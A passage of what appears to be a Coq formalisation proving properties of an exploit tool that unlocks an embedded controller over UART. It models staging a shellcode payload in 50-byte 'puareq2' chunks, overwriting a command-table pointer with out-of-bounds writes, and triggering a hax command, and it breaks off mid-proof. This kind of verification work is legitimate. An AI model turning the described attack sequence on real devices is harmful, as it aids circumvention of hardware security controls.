  oob_value (EvUartWrite (cmdline ++ [chr_colon]
                            ++ format_0X 2 (checksum cmdline) ++ [chr_LF])
                         wait_tx) = None.
Proof.
  rewrite format_0X_2. generalize (checksum cmdline). intros v.
  destruct cmdline as [|a [|b [|c [|d l]]]]; try reflexivity.
  - cbn [app oob_value]. rewrite andb_false_r. reflexivity.
  - destruct l as [|? [|? [|? [|? ?]]]]; reflexivity.
Qed.

(** What any [cmd_send_recv] leaves behind: one command waited on, no
    overwrite write, the constants as they were. *)
Lemma cmd_send_recv_sent (emc : Emc) (cmdline : str) (timeout_us : Z)
    (s s' : Session) (r : Result) :
  cmd_send_recv emc cmdline timeout_us s = Some (r, s') ->
  exists evs,
    s' = log s evs /\ commands_sent evs = [cmdline] /\ oob_values evs = [].
Proof.
  rewrite cmd_send_recv_run. intros Hrun.
  destruct (emc_echo emc _); apply (inj Some) in Hrun;
    apply pair_equal_spec in Hrun as [_ <-]; eexists; (split; [reflexivity|]);
    (split; [reflexivity|]); unfold oob_values, cmd_events;
    cbn [take omap list_omap]; rewrite oob_value_cmd_frame; reflexivity.
Qed.

Lemma nak_run (s : Session) :
  nak s = Some (tt, log s [EvUartWrite [chr_NAK] true; EvBusyWaitMs 10]).
Proof.
  unfold nak, write_str_blocking, busy_wait_ms, bind.
  rewrite !emit_total, log_log. reflexivity.
Qed.

Lemma deliver_chunks_success (emc : Emc) (chunks : list (list u8)) :
  forall (idx : Z) (s s' : Session) (r : Result),
    deliver_chunks emc idx chunks s = Some (r, s') ->
    is_success r = true ->
    exists evs,
      s' = log s evs /\ commands_sent evs = puareq2_cmds idx chunks /\
      oob_values evs = [].
Proof.
  induction chunks as [|chunk rest IH]; intros idx s s' r Hrun Hr;
    cbn [deliver_chunks] in Hrun.
  - apply (inj Some), pair_equal_spec in Hrun as [_ <-].
    exists []. rewrite log_nil. repeat split.
  - unfold puareq2 in Hrun. unfold bind at 1 2 in Hrun.
    destruct (cmd_send_recv emc _ 10000 s) as [[r1 s1]|] eqn:Hsend;
      [|discriminate].
    unfold ret in Hrun.
    destruct (cmd_send_recv_sent emc _ _ _ _ _ Hsend)
      as (evs1 & -> & Hsent1 & Hoob1).
    destruct (is_success r1); cbn [negb] in Hrun.
    + destruct (IH _ _ _ _ Hrun Hr) as (evs2 & -> & Hsent2 & Hoob2).
      exists (evs1 ++ evs2). rewrite log_log, commands_sent_app, oob_values_app.
      rewrite Hsent1, Hsent2, Hoob1, Hoob2. repeat split.
    + apply (inj Some), pair_equal_spec in Hrun as [<- _]. discriminate.
Qed.

Lemma set_payload_success (emc : Emc) (payload : list u8)
    (s s' : Session) (r : Result) :
  Z.of_nat (length payload) + 50 < 2 ^ 32 ->
  set_payload emc payload s = Some (r, s') ->
  is_success r = true ->
  exists evs,
    s' = log s evs /\
    commands_sent evs
      = lit "puareq1 0" :: puareq2_cmds 0 (chunks_of (length payload) payload) /\
    oob_values evs = [].
Proof.
  intros Hlen Hrun Hr. rewrite (set_payload_chunks emc payload s Hlen) in Hrun.
  unfold bind at 1 in Hrun. rewrite nak_run in Hrun.
  unfold puareq1 in Hrun. unfold bind at 1 2 in Hrun.
  destruct (cmd_send_recv emc _ 200000 _) as [[r1 s1]|] eqn:Hsend;
    [|discriminate].
  unfold ret in Hrun.
  destruct (cmd_send_recv_sent emc _ _ _ _ _ Hsend)
    as (evs1 & -> & Hsent1 & Hoob1).
  destruct (is_success r1); cbn [negb] in Hrun.
  - destruct (deliver_chunks_success emc _ _ _ _ _ Hrun Hr)
      as (evs2 & -> & Hsent2 & Hoob2).
    eexists. rewrite !log_log. split; [reflexivity|].
    rewrite !commands_sent_app, !oob_values_app, Hsent1, Hsent2, Hoob1, Hoob2.
    split; reflexivity.
  - apply (inj Some), pair_equal_spec in Hrun as [<- _]. discriminate.
Qed.

(** X14: when [set_payload] reports success it has added nothing but its
    own traffic to the session, and the commands it waited on are the
    priming [puareq1 0] followed by one [puareq2] per chunk, numbered
    from 0 in order; the chunks are non-empty, at most 50 bytes each, and
    put end to end they are the payload. *)
Theorem set_payload_success_delivers (emc : Emc) (payload : list u8)
    (s s' : Session) (r : Result) :
  Z.of_nat (length payload) + 50 < 2 ^ 32 ->
  set_payload emc payload s = Some (r, s') ->
  is_success r = true ->
  let chunks := chunks_of (length payload) payload in
  concat chunks = payload /\
  Forall (fun chunk => (0 < length chunk <= 50)%nat) chunks /\
  exists evs,
    s' = log s evs /\
    commands_sent evs = lit "puareq1 0" :: puareq2_cmds 0 chunks.
Proof.
  intros Hlen Hrun Hr chunks.
  split; [apply concat_chunks_of; lia|]. split; [apply Forall_chunks_of|].
  destruct (set_payload_success emc payload s s' r Hlen Hrun Hr)
    as (evs & Hs' & Hsent & _).
  exists evs. split; assumption.
Qed.

Lemma set_payload_success_delivers_witness :
  exists s',
    set_payload emc_ack (replicate 60 "U"%char)
                (mkSession [] salina_consts_ true (fw_sized 0) ∅)
      = Some (new_success [], s') /\
    commands_sent (events s')
      = [lit "puareq1 0";
         lit "puareq2 0 " ++ buf2hex (replicate 50 "U"%char);
         lit "puareq2 1 " ++ buf2hex (replicate 10 "U"%char)].
Proof.
  set (payload := replicate 60 "U"%char).
  set (s := mkSession [] salina_consts_ true (fw_sized 0) ∅).
  set (s' := match set_payload emc_ack payload s with
             | Some (_, s') => s'
             | None => s
             end).
  assert (Hrun : set_payload emc_ack payload s = Some (new_success [], s'))
    by (vm_compute; reflexivity).
  exists s'. split; [exact Hrun|].
  destruct (set_payload_success_delivers emc_ack payload s s' (new_success []))
    as (_ & _ & evs & Hs' & Hsent).
  - vm_compute. reflexivity.
  - exact Hrun.
  - reflexivity.
  - rewrite Hs'. cbn [events log]. rewrite commands_sent_app, Hsent.
    reflexivity.
Defined.

(** ** The delivery requests on the wire *)

Lemma session_writes_app (a b : list Event) :
  session_writes (a ++ b) = session_writes a ++ session_writes b.
Proof. apply omap_app. Qed.

(** One exchange: the command is framed, written and waited on, whatever
    comes back, and the result is a success exactly when the controller
    acknowledges it. *)
Lemma cmd_send_recv_exchange (emc : Emc) (cmdline : str) (timeout_us : Z)
    (s s' : Session) (r : Result) :
  cmd_send_recv emc cmdline timeout_us s = Some (r, s') ->
  is_success r = acknowledged emc (events s) cmdline timeout_us /\
  exists evs,
    s' = log s evs /\
    commands_sent evs = [cmdline] /\
    session_writes evs = [cmd_frame cmdline] /\
    (acknowledged emc (events s) cmdline timeout_us = true ->
     evs = cmd_events cmdline timeout_us).
Proof.
  rewrite cmd_send_recv_run. unfold acknowledged. intros Hrun.
  destruct (emc_echo emc _); apply (inj Some) in Hrun;
    apply pair_equal_spec in Hrun as [<- <-]; cbn [andb].
  - split.
    + destruct (emc_reply emc _) as [[[ok status] text]|]; [|reflexivity].
      destruct ok; reflexivity.
    + eexists. split; [reflexivity|]. repeat split.
  - split; [reflexivity|]. eexists. split; [reflexivity|].
    repeat split. discriminate.
Qed.

(** The delivery loop on the wire: the requests go out in order up to
    and including the first one that is not acknowledged. *)
Lemma deliver_chunks_trace (emc : Emc) (chunks : list (list u8)) :
  forall (idx : Z) (s s' : Session) (r : Result),
    deliver_chunks emc idx chunks s = Some (r, s') ->
    exists evs,
      s' = log s evs /\
      let requests := puareq2_cmds idx chunks in
      match first_unacked emc (events s) requests with
      | None =>
          r = new_success [] /\
          commands_sent evs = requests /\
          session_writes evs = map cmd_frame requests
      | Some i =>
          r = new_ng StatusCode.kSetPayloadPuareq2Failed [] /\
          commands_sent evs = take (S i) requests /\
          session_writes evs = map cmd_frame (take (S i) requests)
      end.
Proof.
  induction chunks as [|chunk rest IH]; intros idx s s' r Hrun;
    cbn [deliver_chunks] in Hrun.
  - apply (inj Some), pair_equal_spec in Hrun as [<- <-].
    exists []. rewrite log_nil. repeat split.
  - unfold puareq2 in Hrun. unfold bind at 1 2 in Hrun.
    destruct (cmd_send_recv emc _ 10000 s) as [[r1 s1]|] eqn:Hsend;
      [|discriminate].
    unfold ret in Hrun.
    destruct (cmd_send_recv_exchange emc _ _ _ _ _ Hsend)
      as (Hack & evs1 & -> & Hsent1 & Hwrites1 & Hfull).
    cbn [puareq2_cmds first_unacked]. cbv zeta.
    rewrite <- Hack. destruct (is_success r1); cbn [negb] in Hrun.
    + pose proof (Hfull (eq_sym Hack)) as ->.
      destruct (IH _ _ _ _ Hrun) as (evs2 & -> & Hrest). cbv zeta in Hrest.
      cbn [events log] in Hrest.
      exists (cmd_events (lit "puareq2 " ++ format_x idx ++ [chr_space]
                            ++ buf2hex chunk) 10000 ++ evs2).
      rewrite log_log. split; [reflexivity|].
      rewrite commands_sent_app, session_writes_app, Hsent1, Hwrites1.
      destruct (first_unacked emc _ (puareq2_cmds (idx + 1) rest)) as [i|];
        cbn [option_map]; destruct Hrest as (-> & -> & ->);
        repeat split.
    + apply (inj Some), pair_equal_spec in Hrun as [<- <-].
      exists evs1. split; [reflexivity|].
      split; [reflexivity|]. split; assumption.
Qed.

(** [set_payload] on the wire, when the payload is short enough for the
    loop counters not to wrap. *)
Lemma set_payload_trace (emc : Emc) (payload : list u8)
    (s s' : Session) (r : Result) :
  Z.of_nat (length payload) + 50 < 2 ^ 32 ->
  set_payload emc payload s = Some (r, s') ->
  exists evs,
    s' = log s evs /\
    let requests := puareq2_cmds 0 (chunks_of (length payload) payload) in
    if negb (acknowledged emc (events s ++ nak_events) (lit "puareq1 0") 200000)
    then
      r = new_ng StatusCode.kSetPayloadPuareq1Failed [] /\
      commands_sent evs = [lit "puareq1 0"] /\
      session_writes evs = [[chr_NAK]; cmd_frame (lit "puareq1 0")]
    else
      match first_unacked emc
              (events s ++ nak_events ++ cmd_events (lit "puareq1 0") 200000)
              requests with
      | None =>
          r = new_success [] /\
          commands_sent evs = lit "puareq1 0" :: requests /\
          session_writes evs
            = [chr_NAK] :: map cmd_frame (lit "puareq1 0" :: requests)
      | Some i =>
          r = new_ng StatusCode.kSetPayloadPuareq2Failed [] /\
          commands_sent evs = lit "puareq1 0" :: take (S i) requests /\
          session_writes evs
            = [chr_NAK]
                :: map cmd_frame (lit "puareq1 0" :: take (S i) requests)
      end.
Proof.
  intros Hlen Hrun. rewrite (set_payload_chunks emc payload s Hlen) in Hrun.
  unfold bind at 1 in Hrun. rewrite nak_run in Hrun.
  fold nak_events in Hrun.
  unfold puareq1 in Hrun. unfold bind at 1 2 in Hrun.
  destruct (cmd_send_recv emc _ 200000 _) as [[r1 s1]|] eqn:Hsend;
    [|discriminate].
  unfold ret in Hrun.
  destruct (cmd_send_recv_exchange emc _ _ _ _ _ Hsend)
    as (Hack & evs1 & -> & Hsent1 & Hwrites1 & Hfull).
  cbn [events log] in Hack, Hfull. cbv zeta.
  change (lit "puareq1 " ++ format_x 0) with (lit "puareq1 0") in *.
  rewrite <- Hack. destruct (is_success r1); cbn [negb] in Hrun |- *.
  - pose proof (Hfull (eq_sym Hack)) as ->.
    destruct (deliver_chunks_trace emc _ _ _ _ _ Hrun) as (evs2 & -> & Hrest).
    cbv zeta in Hrest. cbn [events log] in Hrest.
    rewrite <- !app_assoc in Hrest.
    eexists. rewrite !log_log. split; [reflexivity|].
    rewrite !commands_sent_app, !session_writes_app, Hsent1, Hwrites1.
    destruct (first_unacked emc _ _) as [i|]; destruct Hrest as (-> & -> & ->);
      repeat split.
  - apply (inj Some), pair_equal_spec in Hrun as [<- <-].
    eexists. rewrite log_log. split; [reflexivity|].
    rewrite commands_sent_app, session_writes_app, Hsent1, Hwrites1.
    repeat split.
Qed.

Lemma acknowledged_emc_ack (evs : list Event) (cmdline : str) (timeout_us : Z) :
  acknowledged emc_ack evs cmdline timeout_us = true.
Proof. reflexivity. Qed.

Lemma first_unacked_emc_ack (requests : list str) :
  forall evs, first_unacked emc_ack evs requests = None.
Proof.
  induction requests as [|c rest IH]; intros evs; [reflexivity|].
  cbn [first_unacked]. rewrite acknowledged_emc_ack, IH. reflexivity.
Qed.

(** C7: when prefix and shellcode make 187 bytes, the payload handed to
    [set_payload] is 200 bytes long, within the 350-byte cap, and is cut
    into four chunks of 50 bytes, for which the iteration budget of the
    loop is enough. A run of [set_payload] that returns has added only
    its own traffic to the session: the NAK, the priming "puareq1 0",
    and then the requests "puareq2 0" to "puareq2 3", each carrying the
    hexadecimal text of its chunk, framed, written and waited on in that
    order, up to and including the first one that the controller does
    not acknowledge. The result is success when all four are
    acknowledged, in which case exactly these four were sent;
    [kSetPayloadPuareq2Failed] when one is not, and then no later
    request is sent; and [kSetPayloadPuareq1Failed] when the priming is
    not, and then no request is sent at all. *)
Theorem set_payload_187_in_four_chunks (emc : Emc) (fw : FwConstants) :
  sizeof_payload_t + Z.of_nat (length (shellcode fw)) = 187 ->
  exists payload,
    craft_payload fw = Some payload /\
    length payload = 200%nat /\
    Z.of_nat (length payload) <= payload_max_len /\
    let chunks := [take 50 payload; take 50 (drop 50 payload);
                   take 50 (drop 100 payload); take 50 (drop 150 payload)] in
    let requests :=
      [lit "puareq2 0 " ++ buf2hex (take 50 payload);
       lit "puareq2 1 " ++ buf2hex (take 50 (drop 50 payload));
       lit "puareq2 2 " ++ buf2hex (take 50 (drop 100 payload));
       lit "puareq2 3 " ++ buf2hex (take 50 (drop 150 payload))] in
    Forall (fun chunk => length chunk = 50%nat) chunks /\
    forall s,
      (fw_consts_ s = fw ->
       craft_and_set_payload emc s = set_payload emc payload s) /\
      set_payload emc payload s
        = (nak ;;;
           ok <- puareq1 emc 0 ;;
           if negb ok then ret (new_ng StatusCode.kSetPayloadPuareq1Failed [])
           else deliver_chunks emc 0 chunks) s /\
      forall r s',
        set_payload emc payload s = Some (r, s') ->
        exists evs,
          s' = log s evs /\
          if negb (acknowledged emc (events s ++ nak_events)
                                (lit "puareq1 0") 200000)
          then
            r = new_ng StatusCode.kSetPayloadPuareq1Failed [] /\
            commands_sent evs = [lit "puareq1 0"] /\
            session_writes evs = [[chr_NAK]; cmd_frame (lit "puareq1 0")]
          else
            match first_unacked emc
                    (events s ++ nak_events
                       ++ cmd_events (lit "puareq1 0") 200000)
                    requests with
            | None =>
                r = new_success [] /\
                commands_sent evs = lit "puareq1 0" :: requests /\
                session_writes evs
                  = [chr_NAK] :: map cmd_frame (lit "puareq1 0" :: requests)
            | Some i =>
                r = new_ng StatusCode.kSetPayloadPuareq2Failed [] /\
                commands_sent evs = lit "puareq1 0" :: take (S i) requests /\
                session_writes evs
                  = [chr_NAK]
                      :: map cmd_frame
                           (lit "puareq1 0" :: take (S i) requests)
            end.
Proof.
  intros Hlen.
  pose proof (craft_payload_layout fw) as Hcraft. cbv zeta in Hcraft.
  rewrite Hlen in Hcraft. specialize (Hcraft ltac:(unfold payload_max_len; lia)).
  change (Z.to_nat (50 - 187 mod 50)) with 13%nat in Hcraft.
  set (payload := payload_prefix (ucmd_ua_buf_addr fw) ++ shellcode fw
                    ++ replicate 13 zero) in *.
  assert (Hsize : length payload = 200%nat).
  { unfold payload. rewrite !length_app, length_payload_prefix, length_replicate.
    unfold sizeof_payload_t in *. lia. }
  exists payload. split; [exact Hcraft|]. split; [exact Hsize|].
  split; [rewrite Hsize; unfold payload_max_len; lia|].
  cbv zeta. split.
  { repeat apply Forall_cons_2; try apply Forall_nil_2;
      rewrite length_take, ?length_drop; lia. }
  intros s. split; [|split].
  - intros Hfw. unfold craft_and_set_payload, bind, get_session.
    rewrite Hfw, Hcraft. reflexivity.
  - rewrite set_payload_chunks by (rewrite Hsize; lia).
    rewrite Hsize, (chunks_of_200 payload Hsize). reflexivity.
  - intros r s' Hrun.
    destruct (set_payload_trace emc payload s s' r) as (evs & Hs' & Htrace);
      [rewrite Hsize; lia|exact Hrun|].
    exists evs. split; [exact Hs'|]. cbv zeta in Htrace.
    rewrite Hsize, (chunks_of_200 payload Hsize) in Htrace.
    exact Htrace.
Qed.

Lemma set_payload_187_in_four_chunks_witness :
  sizeof_payload_t + Z.of_nat (length (shellcode (fw_sized 159))) = 187 /\
  exists payload r s',
    craft_payload (fw_sized 159) = Some payload /\
    length payload = 200%nat /\
    set_payload emc_ack payload
                (mkSession [] salina_consts_ true (fw_sized 159) ∅)
      = Some (r, s') /\
    r = new_success [] /\
    commands_sent (events s')
      = [lit "puareq1 0";
         lit "puareq2 0 " ++ buf2hex (take 50 payload);
         lit "puareq2 1 " ++ buf2hex (take 50 (drop 50 payload));
         lit "puareq2 2 " ++ buf2hex (take 50 (drop 100 payload));
         lit "puareq2 3 " ++ buf2hex (take 50 (drop 150 payload))].
Proof.
  split; [reflexivity|].
  set (s := mkSession [] salina_consts_ true (fw_sized 159) ∅).
  destruct (set_payload_187_in_four_chunks emc_ack (fw_sized 159) eq_refl)
    as (payload & Hcraft & Hsize & _ & _ & Hruns).
  destruct (Hruns s) as (Hsame & _ & Htrace).
  assert (Hreturns : match craft_and_set_payload emc_ack s with
                     | Some _ => True
                     | None => False
                     end) by (vm_compute; exact I).
  rewrite (Hsame eq_refl) in Hreturns.
  destruct (set_payload emc_ack payload s) as [[r s']|] eqn:Hrun;
    [|destruct Hreturns].
  destruct (Htrace r s' eq_refl) as (evs & Hs' & Hevs).
  rewrite acknowledged_emc_ack, first_unacked_emc_ack in Hevs.
  cbn [negb] in Hevs. destruct Hevs as (Hr & Hsent & _).
  exists payload, r, s'.
  split; [exact Hcraft|]. split; [exact Hsize|]. split; [exact Hrun|].
  split; [exact Hr|]. rewrite Hs'. exact Hsent.
Defined.

(** ** The unlock sequence, end to end *)

Lemma commands_sent_write_oob_all (cc : ChipConsts) (values : list (list u8)) :
  commands_sent (flat_map (write_oob_events cc) values) = [].
Proof.
  induction values as [|v rest IH]; [reflexivity|].
  cbn [flat_map]. rewrite commands_sent_app, IH. reflexivity.
Qed.

Lemma is_unlocked_sent (emc : Emc) (s s' : Session) (r : Result) :
  is_unlocked emc s = Some (r, s') ->
  exists evs,
    s' = log s evs /\ commands_sent evs = [lit "getserialno"] /\
    oob_values evs = [].
Proof.
  unfold is_unlocked, getserialno. unfold bind at 1. rewrite nak_run.
  intros Hrun.
  destruct (cmd_send_recv_sent emc _ _ _ _ _ Hrun) as (evs & -> & Hsent & Hoob).
  eexists. rewrite log_log. split; [reflexivity|].
  rewrite commands_sent_app, oob_values_app, Hsent, Hoob. split; reflexivity.
Qed.

Lemma cmd_send_sent (emc : Emc) (cmdline : str) (s s' : Session) (sent : bool) :
  cmd_send emc cmdline true s = Some (sent, s') ->
  exists evs,
    s' = log s evs /\ commands_sent evs = [cmdline] /\ oob_values evs = [].
Proof.
  unfold cmd_send, write_str_blocking, bind, get_session, ret. cbn [negb].
  rewrite !emit_total, log_log. intros Hrun.
  apply (inj Some), pair_equal_spec in Hrun as [_ <-].
  eexists. split; [reflexivity|]. split; [reflexivity|].
  unfold oob_values. cbn [app omap list_omap].
  rewrite oob_value_cmd_frame. reflexivity.
Qed.

Lemma resolve_constants_success (emc : Emc) (s s' : Session) (r : Result) :
  resolve_constants emc s = Some (r, s') ->
  is_success r = true ->
  fw_consts_valid_ s' = true /\
  (fw_consts_valid_ s = true -> fw_consts_ s' = fw_consts_ s) /\
  commands_sent (events s')
    = commands_sent (events s)
        ++ (if fw_consts_valid_ s then [] else [lit "version"]) /\
  oob_values (events s') = oob_values (events s).
Proof.
  unfold resolve_constants. unfold bind at 1. unfold get_session.
  destruct (fw_consts_valid_ s) eqn:Hvalid.
  { unfold ret. intros Hrun _.
    apply (inj Some), pair_equal_spec in Hrun as [_ <-].
    rewrite app_nil_r. auto. }
  unfold version. unfold bind at 1.
  destruct (cmd_send_recv emc _ 10000 s) as [[r1 s1]|] eqn:Hsend;
    [|discriminate].
  destruct (cmd_send_recv_sent emc _ _ _ _ _ Hsend) as (evs & -> & Hsent & Hoob).
  destruct (is_success r1); cbn [negb].
  2:{ unfold ret. intros Hrun Hr.
      apply (inj Some), pair_equal_spec in Hrun as [<- _]. discriminate. }
  cbn [fw_constants_map log].
  destruct (fw_constants_map s !! response_ r1) as [fw|].
  2:{ unfold ret. intros Hrun Hr.
      apply (inj Some), pair_equal_spec in Hrun as [<- _]. discriminate. }
  unfold bind, set_fw_consts_, ret. intros Hrun _.
  apply (inj Some), pair_equal_spec in Hrun as [_ <-].
  cbn [fw_consts_valid_ fw_consts_ events log].
  rewrite commands_sent_app, oob_values_app, Hsent, Hoob, app_nil_r.
  repeat split. discriminate.
Qed.

Lemma craft_and_set_payload_success (emc : Emc) (s s' : Session) (r : Result) :
  craft_and_set_payload emc s = Some (r, s') ->
  is_success r = true ->
  exists payload evs,
    craft_payload (fw_consts_ s) = Some payload /\
    s' = log s evs /\
    commands_sent evs
      = lit "puareq1 0" :: puareq2_cmds 0 (chunks_of (length payload) payload) /\
    oob_values evs = [].
Proof.
  unfold craft_and_set_payload. unfold bind, get_session.
  destruct (craft_payload (fw_consts_ s)) as [payload|] eqn:Hcraft.
  2:{ unfold ret. intros Hrun Hr.
      apply (inj Some), pair_equal_spec in Hrun as [<- _]. discriminate. }
  intros Hrun Hr.
  destruct (craft_payload_length _ _ Hcraft) as [Hle Hlen].
  assert (Hbound : Z.of_nat (length payload) + 50 < 2 ^ 32).
  { assert ((sizeof_payload_t + Z.of_nat (length (shellcode (fw_consts_ s)))) / 50
            <= 7)
      by (apply Z.div_le_upper_bound; unfold payload_max_len in Hle; lia).
    lia. }
  destruct (set_payload_success emc payload s s' r Hbound Hrun Hr)
    as (evs & Hs' & Hsent & Hoob).
  exists payload, evs. auto.
Qed.

Lemma overwrite_cmd_table_ptr_success (s s' : Session) :
  overwrite_cmd_table_ptr s = Some (true, s') ->
  let target := target_of (ucmd_ua_buf_addr (fw_consts_ s)) in
  has_special_byte (ucmd_ua_buf_addr (fw_consts_ s)) = false /\
  exists evs,
    s' = log s evs /\ commands_sent evs = [] /\
    oob_values evs = prewrites target ++ [target].
Proof.
  intros Hrun target.
  destruct (has_special_byte (ucmd_ua_buf_addr (fw_consts_ s))) eqn:Hsp.
  { rewrite (overwrite_cmd_table_ptr_refuses s Hsp) in Hrun. discriminate. }
  split; [reflexivity|].
  rewrite (overwrite_cmd_table_ptr_writes s Hsp) in Hrun.
  unfold bind in Hrun. rewrite write_oob_all_run in Hrun. unfold ret in Hrun.
  apply (inj Some), pair_equal_spec in Hrun as [_ <-].
  eexists. split; [reflexivity|].
  rewrite commands_sent_write_oob_all. split; [reflexivity|].
  apply oob_values_write_oob_all, Forall_length_prewrites, length_target_of.
Qed.

Lemma exploit_setup_success (emc : Emc) (s s' : Session) (r : Result) :
  exploit_setup emc s = Some (r, s') ->
  is_success r = true ->
  let fw := fw_consts_ s' in
  let target := target_of (ucmd_ua_buf_addr fw) in
  exists payload,
    fw_consts_valid_ s' = true /\
    (fw_consts_valid_ s = true -> fw = fw_consts_ s) /\
    craft_payload fw = Some payload /\
    has_special_byte (ucmd_ua_buf_addr fw) = false /\
    commands_sent (events s')
      = commands_sent (events s)
          ++ (if fw_consts_valid_ s then [] else [lit "version"])
          ++ lit "puareq1 0"
             :: puareq2_cmds 0 (chunks_of (length payload) payload) /\
    oob_values (events s')
      = oob_values (events s) ++ prewrites target ++ [target].
Proof.
  unfold exploit_setup. unfold bind at 1.
  destruct (resolve_constants emc s) as [[r1 s1]|] eqn:Hres; [|discriminate].
  destruct (is_success r1) eqn:Hr1; cbn [negb].
  2:{ unfold ret. intros Hrun Hr.
      apply (inj Some), pair_equal_spec in Hrun as [<- _]. congruence. }
  destruct (resolve_constants_success emc _ _ _ Hres Hr1)
    as (Hvalid & Hkeep & Hsent1 & Hoob1).
  unfold bind at 1.
  destruct (craft_and_set_payload emc s1) as [[r2 s2]|] eqn:Hset; [|discriminate].
  destruct (is_success r2) eqn:Hr2; cbn [negb].
  2:{ unfold ret. intros Hrun Hr.
      apply (inj Some), pair_equal_spec in Hrun as [<- _]. congruence. }
  destruct (craft_and_set_payload_success emc _ _ _ Hset Hr2)
    as (payload & evs2 & Hcraft & -> & Hsent2 & Hoob2).
  unfold bind at 1.
  destruct (overwrite_cmd_table_ptr (log s1 evs2)) as [[ok s3]|] eqn:Hover;
    [|discriminate].
  destruct ok; cbn [negb].
  2:{ unfold ret. intros Hrun Hr.
      apply (inj Some), pair_equal_spec in Hrun as [<- _]. discriminate. }
  destruct (overwrite_cmd_table_ptr_success _ _ Hover)
    as (Hsp & evs3 & -> & Hsent3 & Hoob3).
  unfold ret. intros Hrun _.
  apply (inj Some), pair_equal_spec in Hrun as [_ <-].
  cbn [fw_consts_ fw_consts_valid_ events log] in *.
  exists payload. split; [exact Hvalid|]. split; [exact Hkeep|].
  split; [exact Hcraft|]. split; [exact Hsp|].
  rewrite !commands_sent_app, !oob_values_app.
  rewrite Hsent1, Hsent2, Hsent3, Hoob1, Hoob2, Hoob3.
  rewrite !app_nil_r, <- !app_assoc. split; reflexivity.
Qed.

Lemma exploit_trigger_success (emc : Emc) (s s' : Session) (r : Result) :
  exploit_trigger emc s = Some (r, s') ->
  is_success r = true ->
  exists evs,
    s' = log s evs /\
    commands_sent evs = [lit "version"; hax_cmd_name_; lit "getserialno"] /\
    oob_values evs = [].
Proof.
  unfold exploit_trigger, version. unfold bind at 1. rewrite nak_run.
  unfold bind at 1.
  destruct (cmd_send_recv emc _ 10000 _) as [[r1 s1]|] eqn:Hsend;
    [|discriminate].
  destruct (cmd_send_recv_sent emc _ _ _ _ _ Hsend) as (evs1 & -> & Hsent1 & Hoob1).
  destruct (is_ng_status r1 _); cbn [negb].
  2:{ unfold ret. intros Hrun Hr.
      apply (inj Some), pair_equal_spec in Hrun as [<- _]. discriminate. }
  unfold bind at 1.
  destruct (cmd_send emc hax_cmd_name_ true _) as [[sent s2]|] eqn:Hhax;
    [|discriminate].
  destruct (cmd_send_sent emc _ _ _ _ Hhax) as (evs2 & -> & Hsent2 & Hoob2).
  intros Hrun _.
  destruct (is_unlocked_sent emc _ _ _ Hrun) as (evs3 & -> & Hsent3 & Hoob3).
  eexists. rewrite !log_log. split; [reflexivity|].
  rewrite !commands_sent_app, !oob_values_app.
  rewrite Hsent1, Hsent2, Hsent3, Hoob1, Hoob2, Hoob3. split; reflexivity.
Qed.

(** X17: a run of [autorun] that ends in success although the first
    probe did not has gone through the whole sequence, and the session
    shows it. The firmware constants are cached and those the session
    ends with; their payload passed the size check and their address has
    no reserved byte. The commands waited on are, in order: the probe
    [getserialno]; [version], unless the constants were cached already;
    [puareq1 0] and one [puareq2] per chunk of the payload; then
    [version], the hax command and [getserialno] again. The overwrite
    writes are the pre-writes for the address followed by the address,
    and there are no others. *)
Theorem autorun_unlock_sequence (emc : Emc) (s s' s0 : Session) (r r0 : Result) :
  autorun emc s = Some (r, s') ->
  is_success r = true ->
  is_unlocked emc (log s [EvResetSample; EvRxClear]) = Some (r0, s0) ->
  is_success r0 = false ->
  let fw := fw_consts_ s' in
  let target := target_of (ucmd_ua_buf_addr fw) in
  exists payload,
    fw_consts_valid_ s' = true /\
    (fw_consts_valid_ s = true -> fw = fw_consts_ s) /\
    craft_payload fw = Some payload /\
    has_special_byte (ucmd_ua_buf_addr fw) = false /\
    commands_sent (events s')
      = commands_sent (events s)
          ++ [lit "getserialno"]
          ++ (if fw_consts_valid_ s then [] else [lit "version"])
          ++ lit "puareq1 0"
             :: puareq2_cmds 0 (chunks_of (length payload) payload)
          ++ [lit "version"; hax_cmd_name_; lit "getserialno"] /\
    oob_values (events s')
      = oob_values (events s) ++ prewrites target ++ [target].
Proof.
  intros Hrun Hr Hprobe Hr0.
  unfold autorun, reset_is_reset, uart_rx_clear in Hrun.
  unfold bind at 1 2 3 in Hrun. rewrite emit_total in Hrun.
  unfold get_session, ret in Hrun. cbn [events log] in Hrun.
  destruct (reset_level emc (events s ++ [EvResetSample])); cbn [negb] in Hrun.
  2:{ apply (inj Some), pair_equal_spec in Hrun as [<- _]. discriminate. }
  unfold bind at 1 in Hrun. rewrite emit_total, log_log in Hrun.
  cbn [app] in Hrun. unfold bind at 1 in Hrun. rewrite Hprobe, Hr0 in Hrun.
  destruct (is_unlocked_sent emc _ _ _ Hprobe) as (evs0 & -> & Hsent0 & Hoob0).
  rewrite log_log in Hrun.
  unfold bind at 1 in Hrun.
  destruct (exploit_setup emc _) as [[r2 s2]|] eqn:Hsetup; [|discriminate].
  destruct (stage_exploit_setup emc (fun _ => true))
    with (s := log s ([EvResetSample; EvRxClear] ++ evs0))
    as (r2' & e2 & s2' & Hrun2 & Hq2 & _); try reflexivity.
  rewrite Hsetup in Hrun2. apply (inj Some), pair_equal_spec in Hrun2 as [<- <-].
  destruct (is_ng r2) eqn:Hng2.
  { apply (inj Some), pair_equal_spec in Hrun as [<- _].
    unfold is_success, is_ok_status, is_ok, is_ng in *.
    destruct (type_ r2); discriminate. }
  apply ok_or_fails_not_ng in Hq2; [|exact Hng2]. subst r2.
  destruct (exploit_setup_success emc _ _ _ Hsetup eq_refl)
    as (payload & Hvalid & Hkeep & Hcraft & Hsp & Hsent2 & Hoob2).
  cbn [fw_consts_valid_ fw_consts_ events log] in *.
  unfold bind at 1 in Hrun.
  destruct (exploit_trigger emc s2) as [[r3 s3]|] eqn:Htrig; [|discriminate].
  destruct (is_success r3) eqn:Hr3.
  2:{ unfold reset_reset, busy_wait_us, bind in Hrun.
      rewrite !emit_total in Hrun.
      apply (inj Some), pair_equal_spec in Hrun as [<- _]. discriminate. }
  apply (inj Some), pair_equal_spec in Hrun as [_ <-].
  destruct (exploit_trigger_success emc _ _ _ Htrig Hr3)
    as (evs3 & -> & Hsent3 & Hoob3).
  cbn [fw_consts_valid_ fw_consts_ events log].
  exists payload. split; [exact Hvalid|]. split; [exact Hkeep|].
  split; [exact Hcraft|]. split; [exact Hsp|].
  rewrite !commands_sent_app, !oob_values_app in *.
  rewrite Hsent3, Hoob3, Hsent2, Hoob2, Hsent0, Hoob0.
